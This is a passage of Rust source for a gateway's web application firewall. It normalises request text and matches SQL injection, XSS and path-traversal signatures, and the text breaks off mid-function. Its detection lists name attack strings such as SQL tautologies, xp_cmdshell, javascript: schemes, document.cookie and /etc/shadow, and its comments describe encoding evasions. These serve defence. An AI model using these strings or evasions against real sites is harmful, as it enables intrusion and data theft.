//! The gateway's web application firewall: configured rules for SQL injection, XSS and path traversal, matched on
//! the path, the query and form/JSON bodies after percent-decoding (repeated, so double-encoded input is caught; input
//! still encoded after [`DECODE_ROUNDS`] is itself a hit), plus header and body size rules; a body in `gzip` or
//! `deflate` is read inflated ([`super::inflate`]), one in any other coding refused. Text is read as the
//! lenient readers behind a gateway read it: overlong UTF-8 as the character it spells, HTML character references
//! decoded, fullwidth forms folded to ASCII, tabs and line breaks dropped inside URL schemes. Signatures are literal
//! token sequences on a normalised text (lower-case, comments and runs of whitespace collapsed), chosen so ordinary
//! prose ("select a seat", "O'Brien", URLs) passes, with a few shapes checked beyond them (tautologies, event
//! handlers inside tags). Pure.

use std::borrow::Cow;

use serde::Deserialize;

#[cfg(test)]
thread_local! {
    /// Bytes the call index read, for the tests that bound it.
    static CALL_READS: std::cell::Cell<usize> = const { std::cell::Cell::new(0) };
    /// Bytes [`number_len`] and a literal predicate's chain read, for the tests that bound them.
    static NUMBER_READS: std::cell::Cell<usize> = const { std::cell::Cell::new(0) };
    /// Bytes the chains of literals after an injection's number or quote, and the condition of a call picking by
    /// one (`elt(1=1,5)`), read, for the tests that bound them.
    static LINK_READS: std::cell::Cell<usize> = const { std::cell::Cell::new(0) };
}

/// Adds `n` bytes read to one of the counters above, in tests; nothing in a build.
macro_rules! count_reads {
    ($counter:ident, $n:expr) => {
        #[cfg(test)]
        $counter.with(|c| c.set(c.get() + $n));
    };
}

/// What happens when a rule matches.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum WafMode {
    /// 403 with `X-WAF-Rule`.
    Block,
    /// Log the match and let the request through.
    Log,
    Off,
}

/// A rule family.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum RuleSet {
    Sqli,
    Xss,
    Traversal,
}

/// `GATEWAY_WAF` settings.
#[derive(Debug, Clone, PartialEq, Eq, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct WafConfig {
    pub mode: WafMode,
    pub rules: Vec<RuleSet>,
    /// Total bytes of request header names and values allowed.
    pub max_header_bytes: usize,
    /// Largest request body allowed (by `content-length`).
    pub max_body_bytes: u64,
    /// How much of a body is inspected; the rest is forwarded uninspected.
    pub inspect_body_bytes: usize,
}

impl Default for WafConfig {
    fn default() -> Self {
        Self {
            mode: WafMode::Block,
            rules: vec![RuleSet::Sqli, RuleSet::Xss, RuleSet::Traversal],
            max_header_bytes: 16 * 1024,
            max_body_bytes: 10 * 1024 * 1024,
            inspect_body_bytes: 64 * 1024,
        }
    }
}

impl WafConfig {
    /// Whether no content rule reads anything: mode `off`, or no rule families (the size rules may still apply).
    /// Nothing is then refused for being unreadable to the rules either (a charset, a coding, a part's encoding).
    fn reads_nothing(&self) -> bool {
        self.mode == WafMode::Off || self.rules.is_empty()
    }

    pub fn validate(self) -> Result<Self, String> {
        if self.max_header_bytes < 1024 {
            return Err("max_header_bytes must be at least 1024".to_owned());
        }
        // 0 would refuse every request with a body (403 `size-body`), where a reader may take it for "no cap".
        if self.max_body_bytes == 0 {
            return Err(
                "max_body_bytes must be at least 1 (0 would refuse every request with a body; a route's methods \
                 keep bodies out)"
                    .to_owned(),
            );
        }
        // 0 would forward every body uninspected while the WAF looks switched on.
        if self.inspect_body_bytes == 0 {
            return Err(
                "inspect_body_bytes must be at least 1 (0 would leave every body uninspected; use mode \"off\" or \
                 drop rules to switch inspection off)"
                    .to_owned(),
            );
        }
        if self.inspect_body_bytes > 1024 * 1024 {
            return Err("inspect_body_bytes must be at most 1048576".to_owned());
        }
        Ok(self)
    }
}

/// A rule that matched: its id goes into `X-WAF-Rule`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Hit {
    pub rule: &'static str,
    /// Where it matched: `path`, `query`, `body`, `headers`.
    pub part: &'static str,
}

const SQLI: &[(&str, &[&str])] = &[
    // `union`, then `select` after blanks or parentheses, with `all` or `distinct` between ([`reads_as_code`]).
    ("sqli-union", &["union"]),
    (
        "sqli-tautology",
        &[
            "' or '1'='1",
            "' or 1=1",
            "\" or \"1\"=\"1",
            "\" or 1=1",
            " or 1=1--",
            "' or ''='",
            "\" or \"\"=\"",
            "' or 'a'='a",
            "') or ('1'='1",
            "' or true--",
            "1 or 1=1",
            "' and '1'='1",
            "' and 1=1",
        ],
    ),
    // A statement after a `;` is found by its shape ([`stacked`]).
    (
        "sqli-comment",
        &["'--", "' --", "'#", "' #", "'/*", "\"--", "admin'--"],
    ),
    // Names called with `(` after optional blanks (and comments, in the stripped reading): MySQL and PostgreSQL
    // take `sleep (5)` ([`reads_as_code`]). Two rows of one rule: the first match of the rule's name is the hit.
    ("sqli-function", SQL_FUNCTIONS),
    (
        "sqli-function",
        &[
            "waitfor delay",
            // SQL Server's other wait: until a time of day (`waitfor time '23:59'`).
            "waitfor time",
            // Oracle's wait on a pipe nobody writes to, sqlmap's time-based probe for it: `dbms_pipe.receive_message`,
            // its names maybe quoted (`"DBMS_PIPE"."RECEIVE_MESSAGE"`, Oracle's case-sensitive spelling of the same).
            "receive_message",
            "information_schema",
            "@@version",
            "xp_cmdshell",
            "into outfile",
            "into dumpfile",
            "char(0x",
        ],
    ),
];

/// Function names of `sqli-function`, matched only when called ([`reads_as_code`]).
const SQL_FUNCTIONS: &[&str] = &[
    "sleep",
    "benchmark",
    "pg_sleep",
    "pg_sleep_for",
    "pg_sleep_until",
    "load_file",
    "extractvalue",
    "updatexml",
    // SQLite has no sleep: a blob of hundreds of megabytes stands in for one (`like('abc',hex(randomblob(5e8)))`).
    "randomblob",
    // MySQL's wait for a named lock: as long as its second argument when another session holds it.
    "get_lock",
];

/// URL schemes that run script (the `xss-scheme` rule), matched where a URL starts ([`url_position`]).
const SCHEMES: &[&str] = &["javascript:", "vbscript:", "data:text/html", "livescript:"];

const XSS: &[(&str, &[&str])] = &[
    (
        "xss-script",
        &[
            "<script", "</script", "<iframe", "<object", "<embed", "<svg", "<math", "<base ",
            "<base/", "<base>", "<meta ", "<meta/",
        ],
    ),
    ("xss-scheme", SCHEMES),
    // CSS injection: a style sheet of the attacker's in the page reads it by attribute selectors and `url()`
    // requests (a CSRF token a character at a time) and restyles it — `<style>` (a tag's name and `>`, `/`, or
    // attributes: "<style guide>" is prose), `<link … href=…>`, and `@import` of a remote sheet
    // (`@import url(//x)`, `@import 'https://…'`; Sass's `@import 'variables'` names a local partial) ([`reads_as_code`]).
    ("xss-style", &["<style", "<link", "@import"]),
    (
        "xss-dom",
        &[
            "document.cookie",
            "document.write(",
            "window.location",
            "eval(",
            // IE7's CSS expressions, only as a property's value (`width: expression(…)`), not prose's
            // "regular expression(s)".
            "expression(",
            // IE's HTML Components and old Firefox's XBL bindings: a sheet that binds a URL's script to the page's
            // elements, only as the property's `url(…)` value (`behavior:url(x.htc)`, `-moz-binding:url(x.xml#a)`).
            "behavior",
            "-moz-binding",
            "alert(",
            "fromcharcode(",
            // Calls that prose also writes ("the prompt(s)", "confirm(yes/no)"), read only where they break out
            // of a JavaScript string: after a quote and an operator (`'-prompt(1)-'`, `';import('//x')//`).
            "prompt(",
            "confirm(",
            "import(",
        ],
    ),
];

const TRAVERSAL: &[(&str, &[&str])] = &[
    ("traversal-dotdot", &["../", "..\\", "/..", "\\.."]),
    (
        "traversal-file",
        &[
            "/etc/passwd",
            "/etc/shadow",
            "c:\\windows",
            "/proc/self",
            "win.ini",
            "boot.ini",
            "\0",
        ],
    ),
];

/// Percent-decoding rounds made: `%2527` → `%27` → `'` takes two. Input still encoded after them is a hit of its
/// own (`encoding-depth`): a filter that stopped decoding before an origin does would let the last round walk past
/// it. Sixteen, because real values nest deeper than one would think (a link wrapped in five redirect and tracking
/// URLs is five levels); each round only shrinks the text.
const DECODE_ROUNDS: usize = 16;

/// `input` with percent-escapes (and `+` as space when `plus_is_space`) decoded until it stops changing, or `None`
/// when it still changes after [`DECODE_ROUNDS`] rounds. Invalid escapes are kept as they are; decoded bytes that
/// are not UTF-8 are read as [`lenient_utf8`] reads them.
pub fn decode(input: &str, plus_is_space: bool) -> Option<String> {
    let mut current = if plus_is_space && input.contains('+') {
        input.replace('+', " ")
    } else {
        input.to_owned()
    };
    for _ in 0..DECODE_ROUNDS {
        match decode_once(&current) {
            Some(next) => current = next,
            None => return Some(current),
        }
    }
    decode_once(&current).is_none().then_some(current)
}

/// One round of percent-decoding, or `None` when `text` has no valid escape. IIS's and ASP.NET's `%uXXXX` (a
/// UTF-16 code unit in four hex digits) is one: `System.Web.HttpUtility.UrlDecode`, which fills ASP.NET's
/// `Request.QueryString` and `Request.Form`, decodes `%u003cscript%u003e` to `<script>` in the same round as `%3c`.
fn decode_once(text: &str) -> Option<String> {
    if has_percent_u_escape(text.as_bytes()) {
        return Some(decode_with_percent_u_escapes(text));
    }
    match Cow::from(percent_encoding::percent_decode_str(text)) {
        Cow::Borrowed(_) => None,
        Cow::Owned(bytes) => Some(lenient_utf8(&bytes).into_owned()),
    }
}

/// Whether a `%uXXXX` escape stands anywhere in `bytes`.
fn has_percent_u_escape(bytes: &[u8]) -> bool {
    memchr::memchr_iter(b'%', bytes).any(|at| percent_u_escape(&bytes[at..]).is_some())
}

/// The UTF-16 code unit of the `%uXXXX` escape (`u` in either case, four hex digits) `bytes` starts with.
fn percent_u_escape(bytes: &[u8]) -> Option<u16> {
    match bytes {
        [b'%', b'u' | b'U', digits @ ..] => {
            let digits = digits.get(..4)?;
            digits.iter().try_fold(0u16, |unit, &b| {
                char::from(b).to_digit(16).map(|d| unit * 16 + d as u16)
            })
        }
        _ => None,
    }
}

/// One round of decoding `text` that holds a `%uXXXX` escape, in one pass as `HttpUtility.UrlDecode` makes it:
/// `%XX` bytes and `%uXXXX` code units (a surrogate pair as its character; a lone surrogate as U+FFFD).
fn decode_with_percent_u_escapes(text: &str) -> String {
    let bytes = text.as_bytes();
    let hex = |b: u8| match b {
        b'0'..=b'9' => b - b'0',
        _ => (b | 0x20) - b'a' + 10,
    };
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        if let Some(unit) = percent_u_escape(&bytes[i..]) {
            i += 6;
            let low = (0xD800..0xDC00)
                .contains(&unit)
                .then(|| percent_u_escape(&bytes[i..]))
                .flatten()
                .filter(|low| (0xDC00..0xE000).contains(low));
            let c = match low {
                Some(low) => {
                    i += 6;
                    char::decode_utf16([unit, low]).next().and_then(Result::ok)
                }
                None => char::from_u32(u32::from(unit)),
            };
            let c = c.unwrap_or(char::REPLACEMENT_CHARACTER);
            out.extend_from_slice(c.encode_utf8(&mut [0; 4]).as_bytes());
            continue;
        }
        match bytes[i..] {
            [b'%', high, low, ..] if high.is_ascii_hexdigit() && low.is_ascii_hexdigit() => {
                out.push((hex(high) << 4) | hex(low));
                i += 3;
            }
            _ => {
                out.push(bytes[i]);
                i += 1;
            }
        }
    }
    lenient_utf8(&out).into_owned()
}

/// `bytes` as text the way lenient decoders read them (old IIS and Tomcat, Java's modified UTF-8): an overlong form
/// as the character it spells (`%c0%ae` is `.`, `%c0%80` NUL), a lone 0xA0 as Latin-1's no-break space
/// ([`latin1_blanks`]), anything else that is not UTF-8 as U+FFFD.
fn lenient_utf8(bytes: &[u8]) -> Cow<'_, str> {
    if !bytes.iter().any(|b| matches!(b, 0xC0 | 0xC1 | 0xE0 | 0xF0)) {
        return latin1_blanks(bytes);
    }
    let mut folded = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        let continued =
            |n: usize| (1..=n).all(|k| bytes.get(i + k).is_some_and(|b| b & 0xC0 == 0x80));
        let bits = |k: usize| u32::from(bytes[i + k] & 0x3F);
        // Overlong: a lead byte that leaves the sequence room only for a character a shorter form spells.
        let (c, used) = match bytes[i] {
            lead @ (0xC0 | 0xC1) if continued(1) => ((u32::from(lead & 0x1F) << 6) | bits(1), 2),
            0xE0 if continued(2) && bytes[i + 1] < 0xA0 => ((bits(1) << 6) | bits(2), 3),
            0xF0 if continued(3) && bytes[i + 1] < 0x90 => {
                ((bits(1) << 12) | (bits(2) << 6) | bits(3), 4)
            }
            b => {
                folded.push(b);
                i += 1;
                continue;
            }
        };
        let c = char::from_u32(c).unwrap_or(char::REPLACEMENT_CHARACTER);
        folded.extend_from_slice(c.encode_utf8(&mut [0; 4]).as_bytes());
        i += used;
    }
    Cow::Owned(latin1_blanks(&folded).into_owned())
}

/// `bytes` as UTF-8, each sequence that is not UTF-8 as U+FFFD but a lone 0xA0, read as U+00A0: Latin-1's
/// no-break space, which MySQL on a `latin1` connection (its default before 8.0, and what a Latin-1 form is stored
/// through) takes for a blank between tokens (`1%a0union%a0select`, sqlmap's `space2mysqlblank`).
fn latin1_blanks(bytes: &[u8]) -> Cow<'_, str> {
    if !bytes.contains(&0xA0) || std::str::from_utf8(bytes).is_ok() {
        return String::from_utf8_lossy(bytes);
    }
    let mut out = String::with_capacity(bytes.len());
    for chunk in bytes.utf8_chunks() {
        out.push_str(chunk.valid());
        match chunk.invalid() {
            [] => {}
            [0xA0] => out.push('\u{a0}'),
            _ => out.push(char::REPLACEMENT_CHARACTER),
        }
    }
    Cow::Owned(out)
}

/// The text as a browser or a lenient back end reads it, lower-cased: character references decoded
/// ([`decode_references`]) and the fullwidth forms of ASCII (U+FF01–U+FF5E) and the ideographic space folded to
/// ASCII (`＜script＞`: NFKC normalisation, which some back ends apply, makes it `<script>`), and so the other
/// characters NFKC makes ASCII of ([`compatibility_ascii`]: `﹤script﹥`, `<𝐬𝐜𝐫𝐢𝐩𝐭>`, `ſelect`) — but for the
/// fullwidth full stop, solidus and reverse solidus (and the small full stop and reverse solidus, and the two-dot
/// leader), which Japanese and Chinese prose writes (`そして．．．／次`) and which would read as traversal
/// ([`fullwidth_parent_segment`] reads them where a path does).
fn unfold(input: &str) -> String {
    let decoded = if input.contains('&') {
        Cow::Owned(decode_references(input))
    } else {
        Cow::Borrowed(input)
    };
    if decoded.is_ascii() {
        return decoded.to_lowercase();
    }
    let mut folded = String::with_capacity(decoded.len());
    for c in decoded.chars() {
        match c {
            '．' | '／' | '＼' => folded.push(c),
            '\u{FF01}'..='\u{FF5E}' => {
                folded.push(char::from_u32(u32::from(c) - 0xFEE0).unwrap_or(c))
            }
            '\u{3000}' => folded.push(' '),
            c => match compatibility_ascii(c) {
                Some(ascii) => folded.push_str(ascii),
                None => folded.push(c),
            },
        }
    }
    folded.to_lowercase()
}

/// ASCII letters and digits, sliced by [`compatibility_ascii`].
const ALPHANUMERIC: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";

/// NFKC's other mappings to ASCII that spell signatures, sorted: the long s, the Greek question mark (`;` even to
/// NFC) and varia, the letterlike symbols that fill the mathematical alphabets' holes (`ℯ`, `ℎ`), Roman numerals,
/// the CJK vertical and small form variants of punctuation (not the small full stop and reverse solidus, which
/// prose writes: [`fullwidth_parent_segment`]) and the Latin ligatures (`load_ﬁle`).
const COMPATIBILITY: &[(char, &str)] = &[
    ('\u{17F}', "s"),
    ('\u{37E}', ";"),
    ('\u{1FEF}', "`"),
    ('\u{2102}', "C"),
    ('\u{210A}', "g"),
    ('\u{210B}', "H"),
    ('\u{210C}', "H"),
    ('\u{210D}', "H"),
    ('\u{210E}', "h"),
    ('\u{2110}', "I"),
    ('\u{2111}', "I"),
    ('\u{2112}', "L"),
    ('\u{2113}', "l"),
    ('\u{2115}', "N"),
    ('\u{2119}', "P"),
    ('\u{211A}', "Q"),
    ('\u{211B}', "R"),
    ('\u{211C}', "R"),
    ('\u{211D}', "R"),
    ('\u{2124}', "Z"),
    ('\u{2128}', "Z"),
    ('\u{212C}', "B"),
    ('\u{212D}', "C"),
    ('\u{212F}', "e"),
    ('\u{2130}', "E"),
    ('\u{2131}', "F"),
    ('\u{2133}', "M"),
    ('\u{2134}', "o"),
    ('\u{2139}', "i"),
    ('\u{2145}', "D"),
    ('\u{2146}', "d"),
    ('\u{2147}', "e"),
    ('\u{2148}', "i"),
    ('\u{2149}', "j"),
    ('\u{2160}', "I"),
    ('\u{2161}', "II"),
    ('\u{2162}', "III"),
    ('\u{2163}', "IV"),
    ('\u{2164}', "V"),
    ('\u{2165}', "VI"),
    ('\u{2166}', "VII"),
    ('\u{2167}', "VIII"),
    ('\u{2168}', "IX"),
    ('\u{2169}', "X"),
    ('\u{216A}', "XI"),
    ('\u{216B}', "XII"),
    ('\u{216C}', "L"),
    ('\u{216D}', "C"),
    ('\u{216E}', "D"),
    ('\u{216F}', "M"),
    ('\u{2170}', "i"),
    ('\u{2171}', "ii"),
    ('\u{2172}', "iii"),
    ('\u{2173}', "iv"),
    ('\u{2174}', "v"),
    ('\u{2175}', "vi"),
    ('\u{2176}', "vii"),
    ('\u{2177}', "viii"),
    ('\u{2178}', "ix"),
    ('\u{2179}', "x"),
    ('\u{217A}', "xi"),
    ('\u{217B}', "xii"),
    ('\u{217C}', "l"),
    ('\u{217D}', "c"),
    ('\u{217E}', "d"),
    ('\u{217F}', "m"),
    ('\u{FB00}', "ff"),
    ('\u{FB01}', "fi"),
    ('\u{FB02}', "fl"),
    ('\u{FB03}', "ffi"),
    ('\u{FB04}', "ffl"),
    ('\u{FB05}', "st"),
    ('\u{FB06}', "st"),
    ('\u{FE10}', ","),
    ('\u{FE13}', ":"),
    ('\u{FE14}', ";"),
    ('\u{FE15}', "!"),
    ('\u{FE16}', "?"),
    ('\u{FE33}', "_"),
    ('\u{FE34}', "_"),
    ('\u{FE35}', "("),
    ('\u{FE36}', ")"),
    ('\u{FE37}', "{"),
    ('\u{FE38}', "}"),
    ('\u{FE47}', "["),
    ('\u{FE48}', "]"),
    ('\u{FE4D}', "_"),
    ('\u{FE4E}', "_"),
    ('\u{FE4F}', "_"),
    ('\u{FE50}', ","),
    ('\u{FE54}', ";"),
    ('\u{FE55}', ":"),
    ('\u{FE56}', "?"),
    ('\u{FE57}', "!"),
    ('\u{FE59}', "("),
    ('\u{FE5A}', ")"),
    ('\u{FE5B}', "{"),
    ('\u{FE5C}', "}"),
    ('\u{FE5F}', "#"),
    ('\u{FE60}', "&"),
    ('\u{FE61}', "*"),
    ('\u{FE62}', "+"),
    ('\u{FE63}', "-"),
    ('\u{FE64}', "<"),
    ('\u{FE65}', ">"),
    ('\u{FE66}', "="),
    ('\u{FE69}', "$"),
    ('\u{FE6A}', "%"),
    ('\u{FE6B}', "@"),
];

/// The ASCII NFKC makes of `c`, for the characters beyond the fullwidth forms that spell signatures: the
/// mathematical alphanumeric symbols "fancy text" generators write (thirteen alphabets of `A`–`Z` `a`–`z` from
/// U+1D400, five of digits from U+1D7CE: `<𝐬𝐜𝐫𝐢𝐩𝐭>`), the circled letters (`ⓢⓒⓡⓘⓟⓣ`) and [`COMPATIBILITY`].
fn compatibility_ascii(c: char) -> Option<&'static str> {
    let alphanumeric = |i: u32| ALPHANUMERIC.get(i as usize..i as usize + 1);
    match u32::from(c) {
        cp @ 0x1D400..=0x1D6A3 => alphanumeric((cp - 0x1D400) % 52),
        cp @ 0x1D7CE..=0x1D7FF => alphanumeric(52 + (cp - 0x1D7CE) % 10),
        cp @ 0x24B6..=0x24E9 => alphanumeric(cp - 0x24B6),
        _ => COMPATIBILITY
            .binary_search_by_key(&c, |&(k, _)| k)
            .ok()
            .map(|i| COMPATIBILITY[i].1),
    }
}

/// Named character references the signatures can be spelled with (HTML's names, matched case-insensitively).
const NAMED_REFERENCES: &[(&str, char)] = &[
    ("amp", '&'),
    ("apos", '\''),
    ("ast", '*'),
    ("bsol", '\\'),
    ("colon", ':'),
    ("comma", ','),
    ("equals", '='),
    ("excl", '!'),
    ("grave", '`'),
    ("gt", '>'),
    ("lpar", '('),
    ("lt", '<'),
    ("nbsp", '\u{a0}'),
    ("newline", '\n'),
    ("num", '#'),
    ("percnt", '%'),
    ("period", '.'),
    ("plus", '+'),
    ("quot", '"'),
    ("rpar", ')'),
    ("semi", ';'),
    ("sol", '/'),
    ("tab", '\t'),
    ("verbar", '|'),
];

/// The names browsers also decode without their `;` (`&ltscript>`).
const LEGACY_REFERENCES: &[(&str, char)] = &[("amp", '&'), ("gt", '>'), ("lt", '<'), ("quot", '"')];

/// `text` with HTML character references decoded as a browser decodes them: numeric ones in any base and with any
/// number of leading zeros, with or without their `;` (`&#60script>`, `&#x0003C;`), named ones from
/// [`NAMED_REFERENCES`]. Hand-written rather than html-escape's decoder (a dependency already, for escaping): that
/// one decodes only references closed by `;`, which a browser does not require, and its 2,125 names would add to
/// the wasm for the two dozen that spell what the signatures look for.
fn decode_references(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find('&') {
        out.push_str(&rest[..at]);
        let after = &rest[at + 1..];
        match reference(after) {
            Some((c, used)) => {
                out.push(c);
                rest = &after[used..];
            }
            None => {
                out.push('&');
                rest = after;
            }
        }
    }
    out.push_str(rest);
    out
}

/// The character a reference spells, read from just after its `&`, and how many bytes of `after` it takes.
fn reference(after: &str) -> Option<(char, usize)> {
    let bytes = after.as_bytes();
    let closed = |end: usize| end + usize::from(bytes.get(end) == Some(&b';'));
    if let Some(number) = after.strip_prefix('#') {
        let (radix, digits_at) = match number.as_bytes().first() {
            Some(b'x' | b'X') => (16, 2),
            _ => (10, 1),
        };
        let digits = after[digits_at..]
            .bytes()
            .take_while(|b| b.is_ascii_digit() || (radix == 16 && b.is_ascii_hexdigit()))
            .count();
        if digits == 0 {
            return None;
        }
        let end = digits_at + digits;
        // Zero, a surrogate or past U+10FFFF reads as U+FFFD, as in a browser.
        let value = after[digits_at..end].trim_start_matches('0');
        let c = u32::from_str_radix(value, radix)
            .ok()
            .and_then(char::from_u32)
            .unwrap_or(char::REPLACEMENT_CHARACTER);
        return Some((c, closed(end)));
    }
    let len = bytes
        .iter()
        .take_while(|b| b.is_ascii_alphanumeric())
        .count();
    if bytes.get(len) == Some(&b';') {
        let name = &after[..len];
        if let Some(&(_, c)) = NAMED_REFERENCES
            .iter()
            .find(|(n, _)| n.eq_ignore_ascii_case(name))
        {
            return Some((c, len + 1));
        }
    }
    LEGACY_REFERENCES.iter().find_map(|&(name, c)| {
        after
            .get(..name.len())
            .filter(|prefix| prefix.eq_ignore_ascii_case(name))
            .map(|_| (c, closed(name.len())))
    })
}

/// Runs of whitespace and control characters but NUL (U+0001–U+001F, which SQL readers may take as blanks:
/// `union%01select`) collapsed to one space, so `UNION  SELECT` and `UNION\nSELECT` look alike. NUL is kept for the
/// traversal rule's null byte.
fn collapse(text: &str) -> String {
    if text.is_ascii() {
        let mut out = Vec::with_capacity(text.len());
        let mut last_space = false;
        for &b in text.as_bytes() {
            let space = matches!(b, 0x01..=b' ');
            if !(space && last_space) {
                out.push(if space { b' ' } else { b });
            }
            last_space = space;
        }
        return String::from_utf8(out).unwrap_or_default();
    }
    let mut out = String::with_capacity(text.len());
    let mut last_space = false;
    for c in text.chars() {
        let space = c.is_whitespace() || ('\u{1}'..='\u{1f}').contains(&c);
        if space && last_space {
            continue;
        }
        out.push(if space { ' ' } else { c });
        last_space = space;
    }
    out
}

/// Whether `text` (unfolded, not yet collapsed) holds an SQL comment [`without_sql_comments`] would remove: a
/// `/*`, or a `#` or `--` with a line end after it (one that runs to the end hides nothing after it).
fn has_sql_comment(text: &str) -> bool {
    text.contains("/*")
        || (text.contains(['\n', '\r']) && (text.contains('#') || text.contains("--")))
}

/// `text` with its SQL comments replaced by a space: each closed `/* … */`, and `#` and `--` up to the line's end
/// (MySQL, PostgreSQL, SQL Server and SQLite all end a line comment there: `1 union#x⏎select`). MySQL's versioned
/// comments (`/*!50000 SELECT*/`) and MariaDB's (`/*M!50000 SELECT*/`) keep their body, which those servers run: only
/// their markers go. Read left to right, so a marker inside a comment opens nothing. `text` is unfolded (lower-case)
/// and not yet collapsed: the line ends are still there.
///
/// With `nested`, a `/*` inside a comment opens one more level, as in PostgreSQL (`union/*/**/*/select`); without,
/// the first `*/` closes the comment, as in MySQL, SQL Server and SQLite.
fn without_sql_comments(text: &str, nested: bool) -> Option<String> {
    let bytes = text.as_bytes();
    let mut out = String::with_capacity(text.len());
    let (mut copied, mut at) = (0, 0);
    // Each unclosed `/*` is passed over, and looking for its end must not read the rest of the text again each time
    // (64 KiB of `/*` took seconds): `hopeless` is where from on a `/*` is known to close nothing — past the last
    // `*/`, or past the last `*/` a failed nested walk met (a later `/*` is one of that walk's openers, and meets
    // no `*/` either) — and a nested reading that still fails more than UNCLOSED_WALKS walks gives up.
    let mut hopeless =
        memchr::memmem::rfind(bytes, b"*/").map_or(0, |close| close.saturating_sub(1));
    let mut failed_walks = 0;
    while let Some(pos) = memchr::memchr3(b'/', b'#', b'-', &bytes[at..]) {
        let start = at + pos;
        let end = match &bytes[start..] {
            [b'/', b'*', ..] => match (start < hopeless)
                .then(|| comment_end(bytes, start + 2, nested))
            {
                Some(Ok(end)) => end,
                // No `*/`: the server refuses the statement if this opens a comment, so it opens none; a `#` or
                // `--` after it still comments out to the line's end (`'x/*' union#⏎select`).
                failed => {
                    if let Some(Err(last_close)) = failed {
                        hopeless = hopeless.min(last_close.map_or(start + 2, |close| close + 2));
                        failed_walks += 1;
                        if failed_walks > UNCLOSED_WALKS {
                            return None;
                        }
                    }
                    at = start + 2;
                    continue;
                }
            },
            // One that runs to the text's end hides nothing after it and is kept, as the end of what was injected
            // (`' or id/**/>0--` reads `' or id >0--`).
            [b'#', ..] | [b'-', b'-', ..] => match memchr::memchr2(b'\n', b'\r', &bytes[start..]) {
                Some(len) => start + len,
                None => break,
            },
            _ => {
                at = start + 1;
                continue;
            }
        };
        out.push_str(&text[copied..start]);
        out.push(' ');
        if bytes[start] == b'/' {
            let body = &text[start + 2..end - 2];
            if let Some(versioned) = body.strip_prefix('!').or_else(|| body.strip_prefix("m!")) {
                out.push_str(versioned.trim_start_matches(|c: char| c.is_ascii_digit()));
                out.push(' ');
            }
        }
        (copied, at) = (end, end);
    }
    out.push_str(&text[copied..]);
    Some(out)
}

/// How many nested walks [`without_sql_comments`] lets fail — a `/*` before a `*/` that does not close it, as more
/// `/*` opened levels between them — before it gives up and the text is refused as `sqli-comment`. Each such walk
/// reads the rest of the text, so the work stays bounded; text never gets there by chance (a list of globs, `a/*/b`,
/// fails one walk: it meets no `*/`). The non-nested reading fails none: its first `*/` closes.
const UNCLOSED_WALKS: usize = 64;

/// Where a `/*` comment whose body starts at `from` ends (past its `*/`), or, when it does not, where the last `*/`
/// the nested walk met starts ([`without_sql_comments`]).
fn comment_end(bytes: &[u8], from: usize, nested: bool) -> Result<usize, Option<usize>> {
    if !nested {
        return memchr::memmem::find(&bytes[from..], b"*/")
            .map(|len| from + len + 2)
            .ok_or(None);
    }
    let (mut depth, mut at, mut last_close) = (1usize, from, None);
    while let Some(pos) = memchr::memchr2(b'/', b'*', &bytes[at..]) {
        let i = at + pos;
        match &bytes[i..] {
            [b'/', b'*', ..] => (depth, at) = (depth + 1, i + 2),
            [b'*', b'/', ..] if depth == 1 => return Ok(i + 2),
            [b'*', b'/', ..] => (depth, at, last_close) = (depth - 1, i + 2, Some(i)),
            _ => at = i + 1,
        }
    }
    Err(last_close)
}

/// Event-handler attributes inside a tag: `<img … onerror=`, `<a … onload =`.
fn has_event_handler(text: &str) -> bool {
    tag_texts(text).any(handler_attribute)
}

/// The text of each tag in `text` as a browser reads it: from a `<` followed by a letter (`price<10 and
/// onsale=true` is prose) to its `>` outside quotes, or to the end. A `<` inside a tag read is part of it, not a
/// new tag, so every byte is read once: linear in the text however many `<` it holds.
fn tag_texts(text: &str) -> impl Iterator<Item = &str> {
    let bytes = text.as_bytes();
    let mut from = 0;
    std::iter::from_fn(move || {
        while let Some(pos) = text[from..].find('<') {
            let start = from + pos + 1;
            from = start;
            if bytes.get(start).is_some_and(u8::is_ascii_alphabetic) {
                let end = tag_end(bytes, start);
                from = end;
                return Some(&text[start..end]);
            }
        }
        None
    })
}

/// Where a tag whose text starts at `start` ends: its first `>` outside a quoted value, or the end of `bytes`. Read
/// as HTML's tokenizer reads attributes: a quote opens a value only where a value starts (after `=` and optional
/// blanks); elsewhere, in a tag's or attribute's name (`<a x"y=">"`) or inside an unquoted value (`x=b="c`), it is
/// a character like any other.
fn tag_end(bytes: &[u8], start: usize) -> usize {
    #[derive(Clone, Copy)]
    enum State {
        /// A tag's or attribute's name, or the blanks around it.
        Name,
        /// After `=`, before the value.
        BeforeValue,
        Quoted(u8),
        Unquoted,
    }
    let mut state = State::Name;
    for (i, &b) in bytes[start..].iter().enumerate() {
        state = match (state, b) {
            (State::Quoted(q), _) if b == q => State::Name,
            (State::Quoted(_), _) => state,
            (_, b'>') => return start + i,
            (State::Name, b'=') => State::BeforeValue,
            (State::Name, _) => State::Name,
            (State::BeforeValue, b' ' | b'\t' | b'\n' | b'\r' | b'\x0c') => State::BeforeValue,
            (State::BeforeValue, b'"' | b'\'') => State::Quoted(b),
            (State::Unquoted, b' ' | b'\t' | b'\n' | b'\r' | b'\x0c') => State::Name,
            (State::BeforeValue | State::Unquoted, _) => State::Unquoted,
        };
    }
    bytes.len()
}

/// Whether a tag's text (`img src=x onerror=…`) has an `on…=` attribute.
fn handler_attribute(tag: &str) -> bool {
    let bytes = tag.as_bytes();
    let mut i = 0;
    while let Some(pos) = tag[i..].find("on") {
        let at = i + pos;
        let before_ok = at > 0 && matches!(bytes[at - 1], b' ' | b'/' | b'"' | b'\'' | b'\t');
        let mut j = at + 2;
        while j < bytes.len() && bytes[j].is_ascii_alphabetic() {
            j += 1;
        }
        while j < bytes.len() && bytes[j] == b' ' {
            j += 1;
        }
        if before_ok && j > at + 3 && j < bytes.len() && bytes[j] == b'=' {
            return true;
        }
